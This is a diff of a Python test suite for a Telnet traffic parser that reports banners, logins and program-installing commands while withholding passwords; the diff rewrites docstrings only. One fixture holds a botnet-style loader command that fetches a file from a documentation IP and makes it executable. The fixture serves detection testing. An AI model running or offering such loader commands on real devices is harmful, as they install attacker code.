@@ -1,5 +1,5 @@
-"""Telnet: banners, logins and their result, lines that plant programs; never a password, nor what
-else is typed later.
+"""Telnet: banners, logins with their result, and lines that install programs; passwords and other input are never
+reported.
 """
 
 from __future__ import annotations
@@ -24,7 +24,7 @@ def of_client(port: int) -> list[Packet]:
 
 
 def test_two_logins() -> None:
-    """A refused login and an accepted one; corrected typing is read as it was meant."""
+    """A failed and an accepted login are reported; corrections while typing are applied."""
     stream = Telnet().stream(Packet())
     parsed = [
         parsed for packet in of_client(49180) for parsed in stream.feed(packet, packet.payload, packet.dport == 23)
@@ -51,7 +51,7 @@ def test_two_logins() -> None:
     ],
 )
 def test_prompts_that_name_the_device(shown: bytes, expected: list[tuple[str, str]]) -> None:
-    """A prompt with a name is a fact, once, answered or not; without an answer there is no event."""
+    """A prompt with a device name is an observation, once, answered or not; without an answer there is no event."""
     later = (False, b"\r\nother login: "), (True, b"admin\r\n")
     assert values(conversation((False, shown), (True, b"admin\r\n"), *later)) == expected
     stream, packet = Telnet().stream(Packet()), Packet(proto=6)
@@ -61,8 +61,8 @@ def test_prompts_that_name_the_device(shown: bytes, expected: list[tuple[str, st
 
 
 def test_a_program_is_planted() -> None:
-    """The word for the toolbox, and the line that fetches and runs; nothing else of what is typed. Passwords in
-    addresses are left out.
+    """The BusyBox probe and the line that downloads and runs a program are reported, other input is not. Passwords in
+    URLs are removed.
     """
     stream = Telnet().stream(Packet())
     parsed = [
@@ -90,7 +90,7 @@ def test_lines_that_are_reported_without_a_login(typed: bytes, found: str) -> No
 
 
 def test_what_else_is_typed_stays_unsaid() -> None:
-    """A gap of the server behind a login changes nothing; one of the client voids the line."""
+    """After a login a gap of the server is ignored; a gap of the client discards the line."""
     stream, packet = Telnet().stream(Packet()), Packet(proto=6)
     for from_client, data in (
         (False, b"login: "),
@@ -109,13 +109,13 @@ def test_what_else_is_typed_stays_unsaid() -> None:
 
 
 def one_way(*typed: bytes) -> list[object]:
-    """What a client sends, in a capture without packets of the server."""
+    """The events of a client's input, in a capture without packets of the server."""
     stream, packet = Telnet().stream(Packet()), Packet(proto=6, problem=Problem.ONE_SIDED)
     return events([parsed for data in typed for parsed in stream.feed(packet, data, True)])
 
 
 def test_logins_without_the_server() -> None:
-    """The first two lines, and each repetition of the user with the line after it; shell input is read as ever."""
+    """Without the server the first two lines are a login, and so is a repeated user with the next line."""
     login = [("TelnetLogin", "root", True, "undecided", seal("root", word)) for word in (b"one", b"two", b"three")]
     assert one_way(b"root\r\n", b"one\r\n", b"\r\n", b"root\r\n", b"two\r\n", b"root\r\0three\r\0") == login
     loader = b"wget http://203.0.113.9/l -O l; chmod 777 l"
@@ -127,7 +127,7 @@ def test_logins_without_the_server() -> None:
 
 
 def test_listening_ends() -> None:
-    """Behind a login some thousand bytes are heard."""
+    """After a login only some thousand bytes are parsed."""
     stream, packet = Telnet().stream(Packet()), Packet(proto=6)
     for from_client, data in (
         (False, b"login: "),
@@ -151,7 +151,7 @@ def test_listening_ends() -> None:
     ],
 )
 def test_results(shown: bytes, result: str) -> None:
-    """Words, another prompt, a shell, or nothing that tells."""
+    """The result follows from a message, another prompt or a shell; otherwise it is undecided."""
     parsed = conversation(
         (False, b"host login: "),
         (True, b"root\r\n"),
@@ -166,8 +166,8 @@ def test_results(shown: bytes, result: str) -> None:
 
 
 def test_hanging_up_is_no_answer() -> None:
-    """Where the client goes at the sight of a shell, what the server wrote last tells; where nothing was written, or
-    nobody waits, nothing is told.
+    """If the client disconnects, the last output of the server decides the result; without output, or without a pending
+    login, there is no event.
     """
     stream = Telnet().stream(Packet())
     parsed = [
@@ -195,13 +195,13 @@ def test_hanging_up_is_no_answer() -> None:
 
 
 def test_password_alone() -> None:
-    """Some machines ask for a password only."""
+    """Some devices ask for a password only."""
     parsed = conversation((False, b"Vigor login\r\nPassword: "), (True, b"x\r\n"), (False, b"\r\n> "), (True, b"sys"))
     assert events(parsed) == [("TelnetBanner", "Vigor login"), ("TelnetLogin", "", True, "accepted", seal("", b"x"))]
 
 
 def test_last_login_is_no_prompt() -> None:
-    """Only the line that is answered is a prompt."""
+    """Only a line that is answered is a prompt: "Last login:" is not."""
     parsed = conversation(
         (False, b"a login: "),
         (True, b"u\r\n"),
@@ -214,13 +214,13 @@ def test_last_login_is_no_prompt() -> None:
 
 
 def test_escaped_bytes_and_options_in_text() -> None:
-    """Options may stand anywhere; a doubled IAC is a byte."""
+    """Options may occur anywhere; a doubled IAC is a byte."""
     parsed = conversation((False, b"ab\xff\xfb\x01c\xff\xffd\r\nlogin: "), (True, b"x"))
     assert values(parsed) == [("telnet.banner", "abc\N{REPLACEMENT CHARACTER}d")]
 
 
 def test_gap_forgets_the_login() -> None:
-    """What is missing may be the prompt."""
+    """A gap discards the login: the missing bytes may contain the prompt."""
     stream, packet = Telnet().stream(Packet()), Packet(proto=6)
     list(stream.feed(packet, b"login: ", False))
     list(stream.feed(packet, b"root\r\n", True))
@@ -230,12 +230,12 @@ def test_gap_forgets_the_login() -> None:
 
 
 def test_other_protocols() -> None:
-    """What no terminal shows is no telnet."""
+    """Bytes that a terminal does not display are malformed."""
     with pytest.raises(Malformed):
         conversation((False, b"\x16\x03\x01\x02"))
 
 
 def test_memory_is_bounded() -> None:
-    """Text without end is not kept."""
+    """Endless text is not kept in memory."""
     parsed = conversation((False, b"a\r\n" * 50_000 + b"login: "), (True, b"u" * 5000 + b"\r\n"))
     assert len(values(parsed)[0][1]) <= 1024
